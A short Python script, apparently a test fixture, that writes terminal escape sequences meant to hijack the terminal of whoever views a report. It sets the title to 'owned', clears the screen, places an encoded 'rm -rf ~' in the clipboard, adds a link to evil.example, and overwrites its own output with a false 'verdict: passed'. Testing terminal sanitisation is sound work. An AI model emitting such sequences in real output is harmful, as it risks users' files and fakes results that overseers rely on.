"""Prints sequences that would drive the terminal of whoever reads the report."""

import sys

sys.stdout.buffer.write(b"\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\x00\x08\x7f\r\n")
sys.stdout.buffer.write(b"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\xff\xfe\xc0\x80\xed\xa0\x80\n")
sys.stdout.flush()
sys.exit("\x1b[1A\x1b[2Kverdict: passed")
